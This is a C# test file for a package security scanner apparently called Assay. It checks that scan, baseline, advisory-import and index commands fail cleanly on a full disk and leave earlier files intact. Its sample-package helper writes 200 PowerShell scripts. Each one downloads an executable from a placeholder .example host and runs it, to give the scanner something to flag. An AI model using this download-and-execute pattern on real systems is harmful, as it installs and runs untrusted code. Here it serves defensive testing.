using System.Diagnostics;
using Assay.TestInputs;

namespace Assay.Cli.Tests;

/// <summary>On a full disk every command ends with one line and its code, an older file stays, and nothing is left beside it.</summary>
public sealed class FullDiskTests : IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("assay-full-").FullName;
    private readonly string _disk;
    private readonly bool _isMounted;

    public FullDiskTests()
    {
        _disk = Directory.CreateDirectory(Path.Combine(_folder, "disk")).FullName;
        _isMounted = OperatingSystem.IsLinux() && Run("mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", _disk) == 0;
        if (!_isMounted)
        {
            Assert.SkipUnless(Checkout.IsContinuousIntegration, "A small disk is mounted, which takes Linux and root.");
            Assert.Fail("No small disk could be mounted.");
        }
    }

    [Theory]
    [InlineData("json")]
    [InlineData("html")]
    [InlineData("sarif")]
    [InlineData("cyclonedx")]
    [InlineData("spdx")]
    [InlineData("csv")]
    public async Task A_report_that_does_not_fit_leaves_the_old_one(string format) => await FailsAsync(["scan", Package(), "-q", "--no-config", "-o", $"{format}={Path.Combine(_disk, "report")}"]);

    [Fact]
    public async Task A_baseline_that_does_not_fit_leaves_the_old_one() => await FailsAsync(["baseline", "create", Package(), "--no-config", "-o", Path.Combine(_disk, "report")]);

    [Theory]
    [InlineData("json")]
    [InlineData("html")]
    [InlineData("sarif")]
    public async Task A_report_about_a_project_that_does_not_fit_leaves_the_old_one(string format)
    {
        var feed = Directory.CreateDirectory(Path.Combine(_folder, "feed")).FullName;
        File.Copy(Package(), Path.Combine(feed, "Sample.1.0.0.nupkg"));
        var project = Path.Combine(_folder, "packages.config");
        await File.WriteAllTextAsync(project, """<packages><package id="Sample" version="1.0.0" targetFramework="net48" /></packages>""", TestContext.Current.CancellationToken);

        await FailsAsync(["check", project, "--offline", "--from", feed, "--no-config", "--no-advisories", "--no-community", "--no-stored-facts", "-o", $"{format}={Path.Combine(_disk, "report")}"]);
    }

    [Fact]
    public async Task Advisories_that_do_not_fit_leave_the_old_database()
    {
        var database = Path.Combine(_disk, "advisories.db");
        var (imported, _, first) = await AssayProcess.RunAsync(AssayProcess.Describe("", ["advisories", "import", Advisories("Evil"), "-o", database]));
        Assert.True(imported == ExitCode.Success, first);
        var old = await File.ReadAllBytesAsync(database, TestContext.Current.CancellationToken);
        Fill();

        var (exitCode, _, error) = await AssayProcess.RunAsync(AssayProcess.Describe("", ["advisories", "import", Advisories("Worse"), "-o", database]));

        Assert.True(exitCode == ExitCode.Usage, $"{exitCode}: {error}");
        Assert.Single(error.Split('\n', StringSplitOptions.RemoveEmptyEntries), line => line.Contains("cannot be written", StringComparison.Ordinal));
        Assert.DoesNotContain("internal error", error, StringComparison.Ordinal);
        Assert.Equal(old, await File.ReadAllBytesAsync(database, TestContext.Current.CancellationToken));
        Assert.Equal(["advisories.db", "filling"], Directory.GetFileSystemEntries(_disk).Select(Path.GetFileName).Order(StringComparer.Ordinal));
    }

    [Theory]
    [InlineData("--format", "json")]
    [InlineData("--format", "sarif")]
    [InlineData("--all")]
    public async Task Standard_output_that_is_full_is_said(params string[] form)
    {
        var (exitCode, _, error) = await AssayProcess.RunAsync(AssayProcess.Describe("", ["scan", Package(), "--no-config", .. form], output: "/dev/full"));

        Assert.True(exitCode == ExitCode.Usage, $"{exitCode}: {error}");
        Assert.Contains("assay: standard output cannot be written", error, StringComparison.Ordinal);
        Assert.DoesNotContain("internal error", error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_index_that_does_not_fit_is_said()
    {
        Fill();
        var (exitCode, _, error) = await AssayProcess.RunAsync(AssayProcess.Describe("", ["community", "build", "--from", Path.GetDirectoryName(Package())!, "--name", "ours", "--index", Path.Combine(_disk, "index.db")]));

        Assert.True(exitCode == ExitCode.Usage, $"{exitCode}: {error}");
        Assert.DoesNotContain("internal error", error, StringComparison.Ordinal);
        Assert.Empty(Directory.GetFiles(_disk, ".*.tmp"));
    }

    public void Dispose()
    {
        if (_isMounted)
        {
            Run("umount", _disk);
        }

        Directory.Delete(_folder, recursive: true);
    }

    private async Task FailsAsync(string[] arguments)
    {
        await File.WriteAllTextAsync(Path.Combine(_disk, "report"), "old", TestContext.Current.CancellationToken);
        Fill();
        var (exitCode, _, error) = await AssayProcess.RunAsync(AssayProcess.Describe("", arguments));

        Assert.True(exitCode == ExitCode.Usage, $"{exitCode}: {error}");
        Assert.DoesNotContain("internal error", error, StringComparison.Ordinal);
        Assert.Single(error.Split('\n', StringSplitOptions.RemoveEmptyEntries), line => line.Contains("cannot be written", StringComparison.Ordinal));
        Assert.Equal("old", await File.ReadAllTextAsync(Path.Combine(_disk, "report"), TestContext.Current.CancellationToken));
        Assert.Equal(["filling", "report"], Directory.GetFileSystemEntries(_disk).Select(Path.GetFileName).Order(StringComparer.Ordinal));
    }

    // Takes all that is left: files can be made, and hold nothing.
    private void Fill()
    {
        using var filling = File.OpenHandle(Path.Combine(_disk, "filling"), FileMode.CreateNew, FileAccess.Write);
        var page = new byte[4096];
        try
        {
            for (var offset = 0L; ; offset += page.Length)
            {
                RandomAccess.Write(filling, page, offset);
            }
        }
        catch (IOException)
        {
            // Full.
        }
    }

    private static int Run(string program, params string[] arguments)
    {
        using var process = Process.Start(new ProcessStartInfo(program, arguments) { RedirectStandardError = true, UseShellExecute = false })!;
        process.WaitForExit();
        return process.ExitCode;
    }

    private string Advisories(string name)
    {
        var path = Path.Combine(Directory.CreateDirectory(Path.Combine(_folder, name)).FullName, $"MAL-2026-{name.Length}.json");
        File.WriteAllText(path, $$"""{ "id": "MAL-2026-{{name.Length}}", "modified": "2026-03-04T00:00:00Z", "summary": "Takes what it finds.", "affected": [{ "package": { "ecosystem": "NuGet", "name": "{{name}}" }, "versions": ["1.0.0"] }] }""");
        return path;
    }

    // With enough in it for every form to be larger than what fits.
    private string Package()
    {
        var folder = Directory.CreateDirectory(Path.Combine(_folder, "packages")).FullName;
        var path = Path.Combine(folder, "sample.nupkg");
        var package = new NupkgBuilder();
        for (var i = 0; i < 200; i++)
        {
            package.Add($"lib/net8.0/{i}.txt", "text" + i).Add($"tools/{i}.ps1", $"iex 'Get-Item {i}'; (New-Object Net.WebClient).DownloadFile('http://h{i}.example/{i}.exe', 'a.exe'); Start-Process a.exe");
        }

        File.WriteAllBytes(path, package.Build());
        return path;
    }
}
